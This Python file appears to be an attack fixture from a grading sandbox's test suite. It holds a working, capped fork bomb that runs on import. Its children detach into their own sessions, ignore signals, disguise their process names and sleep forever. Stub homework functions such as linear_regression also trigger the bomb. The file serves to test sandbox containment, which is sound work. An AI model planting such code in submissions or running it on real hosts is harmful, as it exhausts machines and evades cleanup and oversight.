"""Attack (denial of service, surviving the grader): a fork bomb whose children hide and never die.

Every child leaves the worker's session (setsid), forks again so that it is orphaned,
ignores every catchable signal, renames itself (comm and argv) to a marker and sleeps.
The parent forks until refused. A grader that only killed the worker's process group, or
relied on RLIMIT_NPROC (which does not bind root), would leave hundreds of them behind.
(Capped at a few hundred forks so that a broken sandbox cannot take the machine down.)

Expected: forks fail at the pids cgroup's limit; when the worker is ended its PID namespace
takes every child with it; no process with the marker remains; every part 0.
"""

import ctypes
import os
import signal
import time

# Filled in by tests/test_attacks.py (defaults for grading this file by hand).
HOOKS = {"repo": "/work/main", "canary": "/tmp/grader-attack-canary", "submission_dir": "/tmp",
         "tcp_port": 47011, "udp_port": 47012, "marker": "atkmarker"}

MAX_FORKS = 300
_forked = 0


def _rename(marker):
    """Show `marker` as this process's name (comm) and command line (argv), like setproctitle."""
    try:
        ctypes.CDLL(None).prctl(15, marker.encode()[:15], 0, 0, 0)  # PR_SET_NAME
        with open("/proc/self/stat", "rb") as f:
            fields = f.read().rsplit(b")", 1)[1].split()
        start, end = int(fields[45]), int(fields[46])  # arg_start, arg_end (fields 48 and 49)
        text = (marker.encode() * 64)[: end - start - 1]
        ctypes.memmove(start, text.ljust(end - start, b"\0"), end - start)
    except Exception:
        pass


def _hide_and_sleep():
    for signum in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGQUIT, signal.SIGUSR1, signal.SIGUSR2,
                   signal.SIGPIPE, signal.SIGALRM, signal.SIGXCPU):
        signal.signal(signum, signal.SIG_IGN)
    try:
        os.setsid()
        if os.fork():
            os._exit(0)  # the grandchild is orphaned
    except OSError:
        pass
    _rename(HOOKS["marker"])
    while True:
        try:
            time.sleep(3600)
        except BaseException:
            pass


def bomb():
    global _forked
    failures = 0
    while _forked < MAX_FORKS and failures < 20:
        try:
            pid = os.fork()
        except OSError:
            failures += 1
            continue
        if pid == 0:
            try:
                _hide_and_sleep()
            finally:
                os._exit(0)
        _forked += 1
    return failures


_refusals = bomb()
print(f"forked {_forked} before refusal ({_refusals} refusals)")


def forward(alpha, beta, x, y):
    bomb()
    return None


def backward(alpha, beta, x, y):
    bomb()
    return None


def chain_rule(dy_dx, dz_dy):
    bomb()
    return None


def d_Ax_dx(A, x):
    bomb()
    return None


def linear_regression(X, y):
    bomb()
    return None
